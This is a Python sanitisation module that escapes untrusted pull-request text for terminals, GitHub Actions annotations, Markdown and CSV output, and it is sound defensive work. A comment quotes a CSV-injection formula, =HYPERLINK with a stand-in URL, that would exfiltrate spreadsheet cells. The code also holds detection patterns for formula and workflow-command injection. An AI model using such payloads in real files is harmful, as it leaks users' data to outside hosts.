"""Make text from a submitted file safe to print on one line, in a Markdown table, or in a spreadsheet.

File names, model names and values come from whoever opened the pull
request. Printed raw, a newline could start a forged log line, a control
character could rewrite the terminal, and on GitHub Actions a line starting
with `::` or containing `##[` anywhere is a workflow command. One neutraliser
per channel, each escaping every control character (C0, DEL, C1, the line and
paragraph separators, bidi controls, lone surrogates) as visible text:
terminal text and XML text through `one_line`; JSON through `neutralize_json`
(after json.dumps with ensure_ascii); GitHub annotations through
`annotation_data` (the message) and `annotation_property` (file=, title=);
every Markdown table cell through `markdown_cell`; every text cell of the
survey's tables through `table_cell`, and of a CSV also `spreadsheet_cell`.
"""

from __future__ import annotations

import os
import re
from typing import TextIO

MAX_CHARS = 300


def one_line(text: object, limit: int = MAX_CHARS) -> str:
    """Escape control and format characters, and truncate long values."""
    s = str(text)
    if len(s) > limit:
        s = s[:limit] + f"...[{len(s) - limit} more chars]"
    if not s.isprintable():
        s = "".join(_escape(ch) for ch in s)
    return _no_workflow_commands(s)


def _no_workflow_commands(s: str) -> str:
    """The runner reads `##[cmd]` anywhere in a line and `::cmd` at its start (after blanks)."""
    s = s.replace("##[", "##\\[")
    # Without "::" the pattern cannot match, and its compiling waits for a text that holds one (a fresh start-up)
    return re.sub(_LINE_START_COMMAND, r"\1\\::", s) if "::" in s else s


# `::` at the start of the text or of any line the runner sees (it splits at CR and LF).
_LINE_START_COMMAND = r"(^|[\r\n])[^\S\r\n]*::"


class CommandSafeWriter:
    """A text stream that no text can turn into a workflow command, whatever wrote it.

    one_line() makes each value safe where it is formatted; this is the guard
    at the one place everything passes: the stream. Whole lines go through
    the same rule; a line is held back until its end arrives, so `#` + `#[`
    written in two calls is still caught. Used for every report the CLI and
    the Action print (never for the Action's own commands).
    """

    def __init__(self, stream: TextIO):
        self._stream, self._pending = stream, ""

    def write(self, text: str) -> int:
        data = self._pending + text
        cut = max(data.rfind("\n"), data.rfind("\r")) + 1
        self._pending = data[cut:]
        if cut:
            self._emit(_no_workflow_commands(data[:cut]))
        return len(text)

    def flush(self) -> None:
        if self._pending:
            self._emit(_no_workflow_commands(self._pending))
            self._pending = ""
        try:
            self._stream.flush()
        except BrokenPipeError:
            self._reader_gone()

    def _emit(self, text: str) -> None:
        try:
            self._stream.write(text)
        except BrokenPipeError:
            self._reader_gone()

    def _reader_gone(self) -> None:
        """The reader stopped reading (`| head`): the rest of the report goes to the null device, and the command
        runs on to its own exit code. A broken pipe must not end it with 0, or `check bad.json | head -1` would pass."""
        try:
            null = os.open(os.devnull, os.O_WRONLY)
        except OSError:
            return
        try:
            os.dup2(null, self._stream.fileno())
        except (
            OSError,
            ValueError,
            AttributeError,
        ):  # no descriptor of its own (a test's StringIO)
            pass
        finally:
            os.close(null)

    def __getattr__(self, name: str):  # isatty, encoding, fileno...: those of the real stream
        return getattr(self._stream, name)


def command_stream(out: TextIO) -> TextIO:
    """The stream under the guard, for the one writer of lbnorm's own workflow commands (escaped annotations)."""
    if isinstance(out, CommandSafeWriter):
        out.flush()
        return out._stream
    return out


def neutralize_json(text: str) -> str:
    """JSON text that no runner reads as a command: '#' inside strings becomes \\u0023.

    `##[` can only occur inside JSON strings, where the escape keeps the value.
    Lines of indented JSON never start with `::` outside a string.
    """
    return text.replace("##[", "\\u0023#[")


def markdown_cell(text: object, limit: int = MAX_CHARS) -> str:
    """Text from a pull request, inert in GitHub Markdown: no HTML, links, images, table breaks, pings."""
    import html  # its entity table is for Markdown output only, not for every start of lbnorm

    escaped = html.escape(one_line(text, limit), quote=True)
    for char in "\\`*_[]|!~":
        escaped = escaped.replace(char, "\\" + char)
    return _no_links_or_mentions(escaped)


_ZERO_WIDTH_SPACE = "\u200b"
# GitHub turns @name into a ping, and http://, https://, ftp://, www. and a@b.c into links: www. even after a
# word character ("x_www.example" is a link), so it is broken up wherever it stands.
_AUTOLINK = r"(?i)(@|://|www\.)"  # compiled on first use (re caches it): not at every start


def _no_links_or_mentions(text: str) -> str:
    """A zero-width space after '@', ':' of '://' and 'www' breaks every ping and autolink, invisibly."""
    return re.sub(_AUTOLINK, lambda m: m[0][0] + _ZERO_WIDTH_SPACE + m[0][1:], text)


# A spreadsheet opening a CSV runs a cell that starts with one of these as a formula (CWE-1236, "CSV injection"):
# a model named =HYPERLINK("https://x/?"&A1, "open") would send the maintainer's cells away on a click. Their
# fullwidth forms too (some spreadsheets read them as the ASCII ones), and after blanks a spreadsheet may skip:
# spaces, no-break spaces, zero-width characters, a byte order mark.
_FORMULA_START = (  # compiled on first use (re caches it): not at every start
    "[\t\r\n\x00]|[\\s\u00a0\u200b-\u200f\u2060\ufeff]*[=+\\-@\uff1d\uff0b\uff0d\uff20\\x00]"
)


def spreadsheet_cell(text: str) -> str:
    """A text cell no spreadsheet runs: one that starts with a formula character, or with a tab, a line break or a
    NUL, gets a leading apostrophe (the spreadsheets' own mark for text, and OWASP's and ASVS's advice)."""
    if re.match(_FORMULA_START, text):
        return "'" + text
    return text


def annotation_data(text: str) -> str:
    """A workflow command's message: every control character escaped as text, but line breaks, which the runner
    reads as %0D and %0A; `%` itself as %25, and `##[` broken up."""
    escaped = "".join(ch if ch in "\r\n" else _escaped(ch) for ch in text)
    return (
        escaped.replace("%", "%25")
        .replace("\r", "%0D")
        .replace("\n", "%0A")
        .replace("##[", "##\\[")
    )


def annotation_property(text: str) -> str:
    """A workflow command's property (file=, title=): every control character escaped as text, line breaks
    too, then `%`, `:` and `,` as the runner decodes them."""
    return annotation_data(_escaped(text)).replace(":", "%3A").replace(",", "%2C")


def table_cell(text: str) -> str:
    """A text cell of a table (CSV, JSON Lines, Parquet): every control character escaped as text, the rest kept
    as it is (spaces of every kind, letters of every script)."""
    return _escaped(text)


def _escaped(text: str) -> str:
    if text.isprintable():
        return text
    return "".join(ch if _space(ch) else _escape(ch) for ch in text)


def _space(ch: str) -> bool:
    """A space separator (Unicode's Zs), kept as a space; unicodedata is imported by the first text that is not
    printable (a fresh audit's start-up)."""
    import unicodedata

    return unicodedata.category(ch) == "Zs"


def _escape(ch: str) -> str:
    if ch.isprintable():
        return ch
    if ch in "\n\r\t":
        return {"\n": "\\n", "\r": "\\r", "\t": "\\t"}[ch]
    if _space(ch):
        return " "
    code = ord(ch)
    return (
        f"\\x{code:02x}"
        if code < 0x100
        else f"\\u{code:04x}"
        if code < 0x10000
        else f"\\U{code:08x}"
    )
